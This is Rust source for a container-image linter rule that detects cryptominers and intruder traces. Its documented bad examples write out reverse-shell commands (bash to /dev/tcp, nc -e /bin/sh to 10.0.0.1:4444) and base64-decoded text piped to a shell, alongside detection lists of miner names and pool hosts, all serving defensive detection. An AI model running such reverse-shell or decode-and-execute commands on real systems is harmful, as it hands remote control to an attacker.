//! `intrusion-artefact`.

use crate::dockerfile::InstructionKind;
use crate::facts::{Facts, Files, Step};
use crate::finding::{Confidence, Findings, Place, Severity};
use crate::image::layer::EntryKind;
use crate::rules::evidence::base_name;
use crate::rules::rule::rule;
use crate::rules::{Category, Control, Inputs, Reads};
use crate::words::{Words, words};

rule! {
    /// ## What it checks
    /// What miners of cryptocurrency and intruders leave behind:
    ///
    /// - programs called as miners are (`xmrig`, `minerd`, `cpuminer`, `kdevtmpfsi`, `kinsing` and others),
    /// - `stratum+tcp://` or the address of a large mining pool in a command of the build, in entrypoint or command,
    /// - a shell that is bound to a network connection (`/dev/tcp/`, `nc -e /bin/sh`) in the same places,
    /// - text that is decoded by `base64` and given to a shell, there too,
    /// - executables below `/dev/shm`, and hidden ones (their name begins with a dot) below `/tmp`, `/var/tmp` and `/run`.
    ///
    /// Names and commands are looked at, not content: it is no scanner for malware.
    ///
    /// ## Why it matters
    /// An image with such things was made by, or on a machine of, somebody who is not its owner.
    ///
    /// ## Examples
    /// ```image bad
    /// /usr/local/bin/xmrig 0755 0:0 size=10
    /// ```
    /// ```image bad
    /// cmd ["/app/x", "-o", "stratum+tcp://pool.example.org:3333"]
    /// ```
    /// ```image bad
    /// /tmp/.x/.init 0755 0:0 size=10
    /// ```
    /// ```image bad
    /// layer RUN /bin/sh -c echo aWQK | base64 -d | bash
    /// /a 0644 0:0 size=1
    /// ```
    /// ```image good
    /// /srv/docs/xmrig 0644 0:0 size=10
    /// /tmp/.X11-unix/ 1777 0:0
    /// ```
    /// ```image good
    /// layer RUN /bin/sh -c echo aWQK | base64 -d > /etc/key
    /// /etc/key 0600 0:0 size=1
    /// ```
    /// ```image good
    /// healthcheck ["CMD", "bash", "-c", "echo > /dev/tcp/localhost/8080"]
    /// ```
    /// ```dockerfile bad
    /// FROM debian:12
    /// CMD bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
    /// ```
    /// ```dockerfile bad
    /// FROM debian:12
    /// RUN echo Y3VybA== | base64 --decode | sh
    /// ```
    /// ```dockerfile bad
    /// FROM debian:12
    /// CMD ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]
    /// ```
    /// ```dockerfile good
    /// FROM debian:12
    /// HEALTHCHECK CMD bash -c '</dev/tcp/localhost/8080'
    /// CMD ["nc", "-l", "8080"]
    /// ```
    /// ```dockerfile good
    /// FROM debian:12
    /// RUN echo "$KEY" | base64 -d > /etc/key
    /// ```
    /// ```dockerfile good
    /// FROM debian:12
    /// RUN timeout 1 bash -c '</dev/tcp/db/5432'
    /// ```
    ///
    /// ## How to fix
    /// Do not run the image. Find out where it comes from, rebuild it from sources that you trust on a machine that you
    /// trust, and change the credentials that the build could see.
    ///
    /// ## References
    /// MITRE ATT&CK for Containers, T1496, T1059.004, T1027; NIST SP 800-190, section 3.1.3.
    pub static INTRUSION_ARTEFACT = Rule {
        id: "intrusion-artefact",
        title: "Traces of a miner or an intruder",
        category: Category::Monitoring,
        severity: Severity::High,
        confidence: Confidence::Medium,
        aliases: &["MON-008"],
        controls: &[
            Control::read("NIST SP 800-190", "3.1.3, 4.1.3"),
            Control::inferred("NIST SP 800-53 r5", "SI-3"),
            Control::inferred("NIST SP 800-53 r5", "SI-7"),
            Control::read("DISA", "CTR-000915"),
            Control::inferred("PCI DSS", "5.2.1"),
        ],
        cwe: Some(506),
        reads: &[Reads::Build, Reads::Files],
        inputs: Inputs::Both,
        message: "{what}",
        why: "An image with such things was made by, or on a machine of, somebody who is not its owner.",
        fix: "Do not run the image; rebuild it from sources and on a machine that you trust, and change the credentials that \
              the build could see.",
        check: check,
    };
}

/// Names of miners and of the loaders that campaigns against containers have used.
static PROGRAMS: Words = words![
    "cpuminer",
    "ethminer",
    "kdevtmpfsi",
    "kinsing",
    "kthreaddi",
    "lolminer",
    "minerd",
    "nbminer",
    "phoenixminer",
    "t-rex",
    "teamredminer",
    "xmr-stak",
    "xmrig",
    "xmrigdaemon",
];

/// Beginnings of addresses and hosts that only miners talk to.
const POOLS: [&str; 9] = [
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum+tls://",
    "supportxmr.com",
    "minexmr.com",
    "nanopool.org",
    "moneroocean.stream",
    "2miners.com",
    "nicehash.com:",
];

/// One of them stands in every text that [`in_text`] finds something in: most files have none.
static HINTS: Words = words![
    "stratum+",
    "xmr.com",
    "nanopool.org",
    "moneroocean.stream",
    "2miners.com",
    "nicehash.com:",
    "/dev/tcp/",
    "base64",
    "ncat",
    "netcat",
];

fn has_hint(text: &str) -> bool {
    // The letters alone stand in many words.
    let calls_nc = |text: &str| {
        text.as_bytes().windows(3).any(|three| matches!(three, [b'n', b'c', behind] if !behind.is_ascii_alphanumeric()))
    };
    HINTS.iter().any(|hint| text.contains(hint)) || (text.contains("nc") && calls_nc(text))
}

const ANYBODY_EXECUTES: u16 = 0o111;

fn check(facts: &Facts<'_>, findings: &mut Findings) {
    // What an image starts is judged by its config, which is what counts in the end.
    let is_start = |step: &Step<'_>| {
        facts.image.is_some() && matches!(step.instruction.kind, InstructionKind::Cmd | InstructionKind::Entrypoint)
    };
    let hints = facts.file().is_none_or(|file| has_hint(&file.text));
    for step in facts.image_steps().filter(|step| hints && !is_start(step)) {
        if let Some(what) = in_text(&step.text) {
            findings.at(step.place.clone()).detail("what", what).done();
        }
    }
    if facts.image.is_some() {
        for setting in [&facts.settings.entrypoint, &facts.settings.cmd].into_iter().flatten() {
            if let Some(what) = in_text(&setting.value.join(" ")) {
                findings.at(setting.place.clone()).detail("what", what).done();
            }
        }
    }
    if let Some(files) = facts.files() {
        in_files(files, findings);
    }
}

fn in_text(text: &str) -> Option<&'static str> {
    // In a health check a connection to a port is a usual test.
    if text.trim_start().get(..11).is_some_and(|start| start.eq_ignore_ascii_case("HEALTHCHECK")) {
        return None;
    }
    if POOLS.iter().any(|pool| text.contains(pool)) {
        return Some("A command names a pool of miners");
    }
    // An interactive shell, or one whose three streams are the connection; waiting for a port has neither.
    if text.contains("/dev/tcp/") && (text.contains("sh -i") || text.contains("0>&1") || text.contains("0<&")) {
        return Some("A command binds a shell to a network connection");
    }
    let words: Vec<&str> = text
        .split(|c: char| c.is_whitespace() || matches!(c, '"' | ',' | '\'' | '[' | ']'))
        .filter(|word| !word.is_empty())
        .collect();
    let is_shell = |word: &str| matches!(word.rsplit('/').next(), Some("sh" | "bash" | "ash" | "dash"));
    let netcat = words.windows(3).any(|three| match three {
        [program, "-e" | "-c", shell] => {
            matches!(program.rsplit('/').next(), Some("nc" | "ncat" | "netcat")) && is_shell(shell)
        }
        _ => false,
    });
    if netcat {
        return Some("A command gives a shell to a network connection");
    }
    let mut parts = text.split('|').map(str::trim_start).skip_while(|part| !decodes(part));
    let _ = parts.next();
    let shell = parts.next().and_then(|part| part.split_whitespace().next());
    shell
        .filter(|word| is_shell(word.trim_end_matches([';', '&', '"', '\''])))
        .map(|_| "A command decodes text and gives it to a shell")
}

fn decodes(part: &str) -> bool {
    let mut words = part.split_whitespace();
    words.next() == Some("base64") && words.any(|word| matches!(word, "-d" | "-D" | "--decode" | "-di"))
}

fn in_files(files: &Files<'_>, findings: &mut Findings) {
    const HIDING: [&[u8]; 4] = [b"tmp/", b"var/tmp/", b"run/", b"dev/shm/"];
    for node in files
        .rootfs
        .nodes()
        .filter(|node| node.kind == EntryKind::File && node.mode.is_some_and(|mode| mode & ANYBODY_EXECUTES != 0))
    {
        let name = base_name(node.path);
        let what = if std::str::from_utf8(name).is_ok_and(|name| PROGRAMS.contains(&name)) {
            "A program has the name of a miner or its loader"
        } else if node.path.starts_with(b"dev/shm/") {
            "A program lies in shared memory, where nothing is installed"
        } else if name.starts_with(b".") && HIDING.iter().any(|start| node.path.starts_with(start)) {
            "A hidden program lies among temporary files"
        } else {
            continue;
        };
        findings.at(Place::file(node.path, node.layer)).detail("what", what).done();
    }
}
